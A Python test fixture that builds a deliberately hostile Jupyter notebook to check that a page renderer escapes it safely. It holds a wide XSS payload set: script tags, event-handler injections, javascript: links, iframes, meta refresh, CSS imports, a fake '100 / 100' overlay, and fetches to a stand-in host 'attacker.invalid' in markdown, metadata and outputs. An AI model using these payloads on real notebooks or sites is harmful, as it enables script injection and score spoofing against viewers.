"""A submission that attacks whoever looks at it: every place of a notebook that a page is made from.

What would run sets `window.title` to OWNED, opens a dialog or asks `attacker.invalid` for something.
Every piece carries a word of its own, which must be seen as text.
"""

from __future__ import annotations

from typing import Any

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

OWNED = "owned"
SITE = "attacker.invalid"
RUN = f"document.title='{OWNED}';fetch('http://{SITE}/x');alert(1)"
SCRIPT = f"<script>{RUN}</script>"

STEERS = f"\x1b[31mred\x1b[0m \x1b]8;;http://{SITE}\x07link \x9b2J \u202etxt"
IMPORTS = "from IPython.display import *"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

MARKDOWN = {
    "script": SCRIPT,
    "image": f'<img src=x onerror="{RUN}">',
    "remote-image": f"![pixel](http://{SITE}/pixel.png)",
    "svg": f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "frame-address": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "object": f'<object data="http://{SITE}/o"></object><embed src="http://{SITE}/e">',
    "style": f"<style>@import url('http://{SITE}/css'); body {{display: none}}</style>",
    "link-element": f'<link rel="stylesheet" href="http://{SITE}/l.css">',
    "refresh": f'<meta http-equiv="refresh" content="0;url=http://{SITE}/m">',
    "base": f'<base href="http://{SITE}/">',
    "details": f'<details open ontoggle="{RUN}">x</details>',
    "form": f'<form action="http://{SITE}/f"><button autofocus onfocus="{RUN}">x</button></form>',
    "link": f"[x](javascript:{RUN.replace(' ', '')})",
    "data-link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "anchor": f'<a href="JaVaScRiPt:{RUN}">x</a>',
    "math": f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\unicode{{<img src=x onerror={RUN}>}}$$",
    "math-markup": f"$<img src=x onerror={RUN}>$",
    "overlay": '<div style="position:fixed;inset:0;background:white;z-index:9999">100 / 100</div>',
    "fence": f"```\n</code></pre>{SCRIPT}\n```\n````\n{SCRIPT}\n",
    "fence-of-tildes": f"~~~\n{SCRIPT}\n~~~\n{SCRIPT}",
    "attachment": "![a](attachment:a.svg)",
    "template": "{{ cell.__class__ }} {% raw %}",
}
BREAKS_OUT = f'"><script>{RUN}</script>'
CLOSES = f"</pre>{SCRIPT}"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"></svg>'


def shows(data: dict[str, Any], **metadata: Any) -> str:
    """Code that displays exactly this."""
    return f"display({data!r}, metadata={metadata!r}, raw=True)"


PRINTS = {
    "html": f"display(HTML({SCRIPT!r}))",
    "javascript": f"display(Javascript({RUN!r}))",
    "svg": f"display(SVG({SVG!r}))",
    "markdown": f"display(Markdown({SCRIPT!r}))",
    "latex": f"display(Latex({MARKDOWN['math'] + SCRIPT!r}))",
    "frame": f"display(IFrame('http://{SITE}/frame', 9, 9))",
    "remote": f"display(Image(url='http://{SITE}/image.png'))",
    "png": shows({"image/png": f"iVBORw0KGgo={BREAKS_OUT}"}),
    "png-metadata": shows(
        {"image/png": PNG}, **{"image/png": {"alt": BREAKS_OUT, "width": f"1 onerror={RUN}"}}
    ),
    "jpeg": shows({"image/jpeg": BREAKS_OUT}),
    "pdf": shows({"application/pdf": "JVBERi0="}),
    "widget": shows(
        {
            "application/vnd.jupyter.widget-view+json": {"x": CLOSES},
            "text/plain": CLOSES + "word-widget",
        }
    ),
    "mermaid": shows({"text/vnd.mermaid": CLOSES}),
    "isolated": shows({"text/html": SCRIPT}, **{"text/html": {"isolated": True}}),
    "stdout": f"print({f'{CLOSES}word-stdout {STEERS}'!r})",
    "stderr": f"import sys; print({f'{CLOSES}word-stderr'!r}, file=sys.stderr)",
    "result": f"type('R', (), dict(__repr__=lambda self: {CLOSES + 'word-result'!r}))()",
    "error": f"raise type({CLOSES!r}, (Exception,), {{}})({CLOSES + 'word-error' + STEERS!r})",
}


def spoil(notebook: NotebookNode) -> NotebookNode:
    """Return the released notebook with all of that in it."""
    bad = BREAKS_OUT
    notebook.cells.append(new_code_cell(IMPORTS))
    for name, text in MARKDOWN.items():
        cell = new_markdown_cell(f"word-markdown-{name} {text}")
        cell.attachments = {"a.svg": {"image/svg+xml": f"<svg onload='{RUN}'></svg>"}}
        notebook.cells.append(cell)
    notebook.cells.append(
        new_raw_cell(f"word-raw {SCRIPT}", metadata={"raw_mimetype": "text/html"})
    )
    source = f"# word-source </pre>{SCRIPT}\n# \u202eword-reversed\n%%html\n{SCRIPT}"
    notebook.cells.append(new_code_cell(source))
    notebook.cells += [new_code_cell(f"# cell-{n}\n{text}") for n, text in PRINTS.items()]
    for number, cell in enumerate(notebook.cells):
        cell.metadata["tags"] = [bad, "raises-exception"]
        cell.metadata.update(alt=bad, magics_language=bad, name=bad)
        if number >= 6:
            cell.id = f'{number}"{SCRIPT}'
    notebook.metadata.update(title=bad, authors=[{"name": bad}])
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": bad, "language": bad}
    notebook.metadata["language_info"] = {"name": bad, "pygments_lexer": bad, "version": bad}
    state = {"version_major": 2, "version_minor": 0, "state": {"a": f"</script>{SCRIPT}"}}
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
    return notebook


def stored(notebook: NotebookNode) -> NotebookNode:
    """Return the notebook with outputs as if its cells had run: what a notebook may bring along."""
    kinds: dict[str, Any] = {
        "text/html": SCRIPT, "application/javascript": RUN, "text/markdown": SCRIPT, "text/latex": SCRIPT,
        "image/svg+xml": f"<svg onload='{RUN}'></svg>", "image/png": f'"><script>{RUN}</script>',
        "application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{SCRIPT}"},
    }  # fmt: skip
    cell = new_code_cell("1 + 1", execution_count=1)
    for kind, value in kinds.items():
        cell.outputs.append(new_output("display_data", data={kind: value}))
    cell.outputs.append(
        new_output("execute_result", data={"text/plain": f"</pre>{SCRIPT}word-stored"})
    )
    cell.outputs.append(new_output("display_data", data={"image/png": PNG}))
    cell.outputs.append(new_output("stream", name=f'"{SCRIPT}', text=f"</pre>{SCRIPT}word-stream"))
    lines = [f"</pre>{SCRIPT}word-line\x1b]8;;http://{SITE}\x07"]
    cell.outputs.append(new_output("error", ename=SCRIPT, evalue=SCRIPT, traceback=lines))
    notebook.cells.append(cell)
    return notebook


def words() -> set[str]:
    """What must be seen on a page, of that which is no output."""
    return {"word-raw", "word-source", "word-reversed", *(f"word-markdown-{n}" for n in MARKDOWN)}


def to_bytes(notebook: NotebookNode) -> bytes:
    """The file."""
    return str(nbformat.writes(notebook)).encode()
